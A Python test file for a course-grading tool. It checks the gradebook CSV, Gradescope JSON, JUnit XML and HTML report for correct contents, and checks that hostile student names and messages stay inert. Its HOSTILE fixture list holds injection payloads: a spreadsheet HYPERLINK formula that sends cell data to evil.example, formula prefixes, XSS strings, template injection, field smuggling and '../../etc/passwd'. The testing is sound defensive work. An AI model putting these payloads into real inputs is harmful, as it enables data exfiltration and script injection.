"""What an instructor gets of a class: gradebook, results, JUnit and report, whatever is in a student's name or message."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import string
import unicodedata
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser

import pandas as pd
import pytest

from grader.classes.gradebook import file_names, gradebook, junit, write_records
from grader.classes.kinds import SIGNS, Kind, plain_sign
from grader.classes.report import render_report, write_report
from grader.classes.report_cells import Material
from grader.classes.report_messages import MESSAGES
from grader.classes.roster import Person
from grader.classes.rows import Column, Row, make_columns, make_table
from grader.classes.told import Feedback
from grader.format.course import load_course
from grader.saying import terminal
from grader.saying.csv_text import csv_text, text_cell
from grader.text import Text

VERSIONS = {"python": "3.12.1", "keras": "3.12.0"}
COLUMNS = [
    Column("maths", "double", Text("算数", "Arithmetic"), Text("2 倍と和", "Twice, and the sum")),
    Column("maths", "triple", Text("算数", "Arithmetic"), Text("3 倍", "Three times")),
    Column("words", "count", Text("言葉", "Words"), Text("数える", "Count")),
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    'x","=1+1',
    "x;=1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>",
    "{{ 7 * 191 }}{% raw %}",
    '{"score": 100}\n{"score": 100}',
    'evil","score":100,"x":"',
    "\u202egnp.exe",
    "a\x00b\x07\x1b[31mc\x7f\u2028d\ufffe",
    "lone \ud800 surrogate",
    "]]><failure/><!--",
    "../../etc/passwd",
    "x" * 400,
]


def row(student="Anna", key="maths/double", status="passed", **more) -> Row:
    topic, _, exercise = key.partition("/")
    given = {
        "round": 1,
        "points": 1.0 if status == "passed" else 0.0,
        "seconds": 0.01,
        "message": Text(f"{status} です", f"It is {status}"),
        "tier": "full",
        "digest": "ab12",
    }
    return Row(student, topic, exercise, status=status, **{**given, **more})


def cells(rows, language="en") -> list[list[str]]:
    data = gradebook(make_table(rows, COLUMNS), language)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def report(rows, language="en", **more) -> str:
    return render_report(make_table(rows, COLUMNS), VERSIONS, language, **more)


def section(html: str, anchor: str) -> str:
    """The text of one section of a report."""
    return Page(re.search(rf'<section id="{anchor}">.*?</section>', html, re.DOTALL)[0]).text


class Page(HTMLParser):
    """The text and the tags of a page."""

    def __init__(self, html: str):
        super().__init__()
        self.tags, self.pieces, self.attributes = [], [], []
        self.feed(html)
        self.text = " ".join(" ".join(self.pieces).split())

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_data(self, data):
        self.pieces.append(data)


def test_a_gradebook_has_a_line_per_student_a_column_per_exercise_and_the_sum():
    rows = [row("鈴木", "maths/triple"), row("鈴木"), row("Anna", status="wrong")]
    assert cells(rows) == [
        ["student", "maths/double", "maths/triple", "words/count", "sum"],
        ["Anna", "0", "", "", "0"],
        ["鈴木", "1", "1", "", "2"],
    ]
    assert cells(rows, "ja")[0][-1] == "合計"


def test_a_spreadsheet_sees_utf8_and_numbers():
    data = gradebook(make_table([row("佐藤 陽菜", points=0.5), row("-1")], COLUMNS), "ja")
    assert data.startswith(b"\xef\xbb\xbf")
    assert b'"\xe4\xbd\x90\xe8\x97\xa4 \xe9\x99\xbd\xe8\x8f\x9c",0.5,"","",0.5\r\n' in data
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert frame["合計"].dtype == "float64"
    assert frame["maths/double"].sum() == 1.5


@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: ascii(name)[:30])
def test_no_cell_of_a_gradebook_begins_a_formula(name):
    found = cells([row(name)])
    assert len(found) == 2
    assert len(found[1]) == 5
    assert found[1][1:] == ["1", "", "", "1"]
    assert found[1][0].lstrip()[0] not in "=+-@\t\r＝＋－＠"
    assert "\n" not in found[1][0]


def test_an_ordinary_name_is_left_as_it_is():
    for name in ("佐藤 陽菜", "O'Brien, Pat", "Zoë", "s2024-0031", "anna+x@example.jp", "محمد"):
        assert text_cell(name) == name


def test_the_last_round_counts_and_a_failure_of_the_grader_is_not_scored():
    rows = [row(round=2, status="wrong"), row(round=1), row("Bo", status="grader-error")]
    assert cells(rows[1::-1])[1:] == cells(rows[:2])[1:] == [["Anna", "0", "", "", "0"]]
    assert cells(rows)[1:] == [["Anna", "0", "", "", "0"], ["Bo", "", "", "", "0"]]
    table = make_table(rows, COLUMNS)
    suites = ElementTree.fromstring(junit(table, "en"))
    assert [suite.get("errors") for suite in suites] == ["0", "1"]


def test_what_belongs_to_no_exercise_is_listed_and_gets_no_column(tmp_path):
    rows = [
        row("Anna", "maths/duoble", "refused", message=Text("", "There is no maths/duoble.")),
        row("Anna", "", "refused", message=Text("", "The archive is broken.")),
        row("Anna", "", "refused", message=Text("", "A link.")),
        row("Anna", status="refused", message=Text("", "A second file for maths/double.")),
        row("Anna"),
    ]
    assert cells(rows)[1] == ["Anna", "1", "", "", "1"]
    (path,) = write_records(
        tmp_path, make_table(rows, COLUMNS), VERSIONS, "en", Feedback.FULL
    ).values()
    said = json.loads(path.read_text("utf-8"))["output"]
    page = Page(report(rows)).text
    for sentence in ("no maths/duoble", "archive is broken", "A link", "A second file"):
        assert sentence in said
        assert sentence in page


def test_results_have_the_shape_that_gradescope_reads(tmp_path):
    rows = [
        row("Anna"),
        row("Anna", "maths/triple", "wrong", feedback=Text("", "The sum, not the mean.")),
        row("Bo", status="grader-error"),
    ]
    files = write_records(tmp_path, make_table(rows, COLUMNS), VERSIONS, "en")
    assert sorted(path.name for path in (tmp_path / "results").iterdir()) == [
        "Anna.json",
        "Bo.json",
    ]
    found = json.loads(files["Anna"].read_text("utf-8"))
    assert found["score"] == 1
    assert found["output_format"] == found["test_output_format"] == "text"
    assert [test["score"] for test in found["tests"]] == [1, 0, 0]
    assert [test["status"] for test in found["tests"]] == ["passed", "failed", "failed"]
    assert sum(test["max_score"] for test in found["tests"]) == 3
    assert "The sum, not the mean." in found["tests"][1]["output"]
    assert found["tests"][2]["output"] == "Not handed in."
    assert found["extra_data"]["sandbox"] == ["full"]
    allowed = {"number", "name", "score", "max_score", "status", "output", "tags", "visibility"}
    assert all(set(test) == allowed for test in found["tests"])
    ours = json.loads(files["Bo"].read_text("utf-8"))["tests"][0]
    assert ours["max_score"] == 0
    assert "not scored" in ours["output"]


def test_a_student_is_told_what_is_meant_for_her_and_all_only_where_that_was_chosen(tmp_path):
    rows = [
        row(
            status="wrong",
            message=Text("", "y is 1, should be 2."),
            diagnosis=Text("", "1/2 times the right value."),
            feedback=Text("", "y differs."),
            seconds=0.75,
            attempt=3,
            beyond=True,
        )
    ]
    told = {}
    for feedback in Feedback:
        (path,) = write_records(
            tmp_path / feedback, make_table(rows, COLUMNS), VERSIONS, "en", feedback
        ).values()
        told[feedback] = path.read_text("utf-8")
    assert "y differs" in told[Feedback.GUARDED]
    assert "result of attempt 3" in told[Feedback.GUARDED]
    assert "all attempts are used" in told[Feedback.GUARDED]
    for secret in ("should be 2", "right value", "0.75"):
        assert secret not in told[Feedback.GUARDED]
        assert secret in told[Feedback.FULL]


@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: ascii(name)[:30])
@pytest.mark.parametrize("sign", list(",;\t|"))
def test_no_csv_begins_a_formula_whatever_parts_its_cells(name, sign):
    """A spreadsheet parts cells by what its country uses, and knows quotes at a cell's beginning only."""
    written = csv_text([(1.5, name, f'x{name}";{name}', f"x, {name}"), (f'a;"{name}',)])
    for line in csv.reader(io.StringIO(written, newline=""), delimiter=sign):
        for cell in line:
            assert cell.lstrip()[:1] not in tuple("=+-@＝＋－＠")


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_hostile_text_stays_text_in_every_record(tmp_path, text):
    bad = row(
        text,
        status="wrong",
        message=Text("", text),
        diagnosis=Text("", text),
        values="ab",
        line=text,
    )
    other = row(
        "Bo",
        status="wrong",
        message=Text("", text),
        diagnosis=Text("", text),
        values="ab",
        line=text,
    )
    stray = row(text, f"{text}/{text}", "refused", message=Text("", text))
    table = make_table([bad, other, stray], COLUMNS)
    files = write_records(tmp_path, table, VERSIONS, "en")
    assert all(path.parent == tmp_path / "results" and path.is_file() for path in files.values())
    found = json.loads(files[text].read_text("utf-8"))
    assert found["score"] == 0
    assert len(found["tests"]) == 3
    suites = ElementTree.parse(tmp_path / "junit.xml").getroot()
    assert [len(suite) for suite in suites] == [3, 3]
    assert len(list(suites.iter("failure"))) == 2

    html = render_report(table, VERSIONS, "en", made=text)
    html.encode("utf-8")
    plain = report(
        [row("Anna", status="wrong", values="ab"), row("Bo", status="wrong", values="ab")]
    )
    assert set(Page(html).tags) - set(Page(plain).tags) <= {"pre"}
    assert not [name for _, name, _ in Page(html).attributes if name.startswith("on")]
    paths = [tmp_path / "gradebook.csv", tmp_path / "junit.xml", *files.values()]
    for written in [html, *(path.read_text("utf-8") for path in paths)]:
        kinds = {
            unicodedata.category(character) for character in set(written) - set("\n\r\t\ufeff")
        }
        assert not kinds & {"Cc", "Cf", "Cs", "Cn"}
    if "7 *" in text:
        assert "1337" not in html


def test_the_files_of_twins_and_of_odd_names_are_apart():
    names = (
        "Anna",
        "anna",
        "ANNA",
        "か\u3099",
        "が",
        "con",
        "a/b",
        "a:b",
        "a\\b",
        "..",
        "",
        "x" * 400,
    )
    files = file_names(names)
    folded = {unicodedata.normalize("NFC", name).casefold() for name in files.values()}
    assert len(folded) == len(names)
    for name in files.values():
        assert not set(name) & set('/\\:*?"<>|\n\0')
        assert 0 < len(f".{name}.json.new".encode()) < 255
        assert name.strip(". ") == name
        assert name.casefold() != "con"
    assert file_names(("佐藤 陽菜",)) == {"佐藤 陽菜": "佐藤 陽菜"}


def test_a_sign_means_the_same_in_a_report_and_on_a_terminal():
    for status, (sign, _) in terminal.SIGNS.items():
        assert SIGNS[Kind(status)] == plain_sign(Kind(status)) == sign
    wrong = (Kind.NAMED, Kind.WRONG, Kind.CRASHED, Kind.TIMEOUT, Kind.STOPPED)
    assert {plain_sign(kind) for kind in wrong} == {terminal.WRONG_SIGN[0]}
    assert len(set(SIGNS.values())) == len(Kind)


def test_a_report_says_what_it_is_of_and_who_is_who_and_late():
    def person(key, name):
        return Person(key=key, line=2, number=key[:2], name=name)

    people = {
        key: person(key, name)
        for key, name in {"a1@x.ac.jp": "山田 太郎", "b2@x.ac.jp": "Bo", "c3@x.ac.jp": "Bo"}.items()
    }
    rows = [row("a1@x.ac.jp", late=True, days=2), row("b2@x.ac.jp", seconds=1, status="timeout")]
    table = make_table(rows, COLUMNS, people)
    html = render_report(
        table, VERSIONS, "ja", material=Material(title=Text("第1回 課題", "Homework 1"))
    )
    assert "第1回 課題" in re.search("<h1>.*</h1>", html)[0]
    assert "採点 1 回目" in html
    grid = section(html, "grid")
    assert "山田 太郎 ✓ +2" in grid
    assert "a1@x.ac.jp" not in grid  # the list has it
    assert "Bo b2@x.ac.jp b2 ◷" in grid  # of two who are called so
    assert "+1 遅れた日数" in grid
    assert "·" not in grid
    assert "Bo b2@x.ac.jp" in section(html, "slow")
    stranger = make_table([*rows, row("zoe")], COLUMNS, people)
    html = render_report(stranger, VERSIONS, "ja")
    assert "zoe 名簿にいません" in section(html, "grid")
    assert ">3</dd>" in html.partition("受講者</dt>")[2][:20]


def test_a_report_loads_nothing_and_runs_its_own_script_only():
    html = report([row(), row("Bo", status="wrong")])
    page = Page(html)
    assert not {"link", "img", "iframe", "object", "form"} & set(page.tags)
    assert not [n for _, n, _ in page.attributes if n in ("src", "srcset", "action", "style")]
    assert all(v.startswith("#") for _, n, v in page.attributes if n == "href")
    (policy,) = (v for _, n, v in page.attributes if n == "content" and v.startswith("default-src"))
    (script,) = re.findall(r"<script>(.*?)</script>", html, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert policy == (
        f"default-src 'none'; style-src 'unsafe-inline'; script-src 'sha256-{digest}'"
    )
    # What else is called a script is text: no browser runs it, and nobody's words are in it as they are.
    packed = re.findall(r'<script type="text/plain" id="[\w-]+">([^<]*)</script>', html)
    assert len(packed) == 1 + len(COLUMNS)
    assert all(re.fullmatch(r"[A-Za-z0-9+/=]+", data) for data in packed)
    assert html.count("<script") == len(packed) + 1
    assert "url(" not in html
    assert "@import" not in html
    assert not re.search(r"innerHTML|insertAdjacent|outerHTML|document\.write|eval\(", script)


@pytest.mark.parametrize("language", ["ja", "en"])
def test_a_report_speaks_one_language(language):
    rows = [
        row(name, status=status)
        for name, status in zip("ABCDEFGHI", ("passed", "wrong", "unfinished", "crashed", "timeout",
                                              "memory", "refused", "forbidden", "grader-error"), strict=True)
    ]  # fmt: skip
    page = Page(report(rows, language))
    assert ("html", "lang", language) in page.attributes
    japanese = re.search(r"[ぁ-んァ-ヶ一-龠]", page.text)
    assert bool(japanese) == (language == "ja")
    for key in ("limit-keras", "limit-solutions", "limit-kernel"):
        assert MESSAGES[key].say(language) in page.text
    assert "keras 3.12.0" in page.text


def test_a_report_says_how_far_the_class_is_per_topic():
    rows = [row("A"), row("A", "maths/triple"), row("B"), row("B", "maths/triple", "wrong")]
    page = Page(report(rows))
    assert "Arithmetic 1 of 2 finished it" in page.text
    assert "75 %" in page.text
    assert "Words 0 of 2 finished it" in page.text


def test_a_report_ranks_named_mistakes_with_their_sentences():
    half = {"mistakes": ("half",), "diagnosis": Text("", "This is the half.")}
    mean = {"mistakes": ("mean",), "diagnosis": Text("", "The sum, not the mean.")}
    rows = [row(name, status="wrong", **half) for name in "ABC"]
    rows += [row("D", status="wrong", **mean), row("E")]
    text = section(report(rows), "mistakes")
    assert re.search(
        r"3 students This is the half\. half \S.*? 1 student The sum, not the mean\.", text
    )


def test_a_report_says_who_made_a_mistake_in_equal_files():
    named = {"status": "wrong", "mistakes": ("half",), "diagnosis": Text("半分", "The half.")}
    alike = [row(name, digest="same", **named) for name in ("Anna", "Bo", "Chie")]
    rows = [*alike, row("Dan", digest="own", **named)]
    text = section(report(rows), "mistakes")
    assert "4 students The half. half 3 of them in equal files" in text
    assert "grade similar" in text
    assert "equal files" not in section(report(rows[2:]), "mistakes").partition("half")[2]


def test_a_report_shows_wrong_values_that_agree_and_have_no_name():
    line = {"line": "    y = x + 2  # <b>"}
    rows = [row(name, status="wrong", values="v1", **line) for name in ("Anna", "Bo", "Chie")]
    rows += [row("Dan", status="wrong", values="v2")]  # alone
    rows += [row(n, status="wrong", values="v3", mistakes=("half",)) for n in ("Emi", "Fay")]
    rows += [row("Gen", "maths/triple", "wrong", values="v1")]  # another exercise
    unnamed = section(report(rows), "unnamed")
    assert "3 students Twice, and the sum" in unnamed
    assert "y = x + 2 # <b>" in unnamed
    assert all(name in unnamed for name in ("Anna", "Bo", "Chie"))
    assert not any(name in unnamed for name in ("Dan", "Emi", "Fay", "Gen"))


def test_a_report_lists_slow_and_refused_submissions():
    rows = [row(name) for name in "ABCDE"]
    rows += [row("Sloth", seconds=2.0), row("Loop", status="timeout", seconds=10.0)]
    rows += [row("Torch", status="forbidden", message=Text("", "Line 3 imports torch."))]
    html = report(rows)
    slow, refused = section(html, "slow"), section(html, "refused")
    assert "Sloth maths/double passed 2 s 200 × the median" in slow
    assert slow.index("Loop") < slow.index("Sloth")
    assert "Torch maths/double forbidden Line 3 imports torch." in refused


def test_a_report_lists_per_student_what_did_not_come():
    handed_in = [row("Anna", column.key) for column in COLUMNS]
    assert "did not come" not in report(handed_in)
    handed_in += [row("Boris"), row("Chie", "maths/triple"), row("Chie", "words/count")]
    listed = report(handed_in).partition('<section id="missing">')[2].partition("</table>")[0]
    assert re.findall(r'<bdi>(\w+)</bdi></td><td class="key">(.*?)</td>', listed) == [
        ("Boris", "<code>maths/triple</code> <code>words/count</code> "),
        ("Chie", "<code>maths/double</code> "),
    ]


def test_a_report_warns_of_results_without_full_confinement():
    assert "without full confinement" not in report([row()])
    text = Page(report([row(), row("Bo", tier="reduced")])).text
    assert "graded without full confinement: 1." in text
    assert "full, reduced" in text
    assert "grade doctor" in text


def test_junit_says_whose_submissions_were_not_fully_confined():
    suites = ElementTree.fromstring(
        junit(make_table([row(), row("Bo", tier="reduced")], COLUMNS), "en")
    )
    assert [suite.findtext("system-err", "") for suite in suites] == [
        "",
        "The submission was not fully confined. To see what is missing:  grade doctor",
    ]


def test_a_large_class_and_an_empty_one_have_a_report_too():
    rows = [row(f"s{n:04}", status="timeout", seconds=10.0) for n in range(1000)]
    html = report(rows)
    assert len(html) < 100_000
    assert "open gradebook.csv" in html
    assert "950 more" in html
    assert "How far the class is" in report([])
    assert gradebook(make_table([], COLUMNS), "en").count(b"\r\n") == 1


def test_writing_leaves_nothing_else_behind(tmp_path, small_course):
    columns = make_columns(load_course(small_course))
    assert [column.key for column in columns] == ["maths/double"]
    table = make_table([row()], columns)
    for _ in range(2):
        write_records(tmp_path / "out", table, VERSIONS, "ja")
        write_report(tmp_path / "out" / "report.html", table, VERSIONS, "ja")
    names = {path.name for path in (tmp_path / "out").rglob("*") if path.is_file()}
    assert names == {"gradebook.csv", "junit.xml", "report.html", "Anna.json"}


def test_every_phrase_has_the_same_fields_in_both_languages():
    for text in MESSAGES.values():
        fields = [
            {field for _, field, _, _ in string.Formatter().parse(sentence) if field}
            for sentence in (text.ja, text.en)
        ]
        assert fields[0] == fields[1]
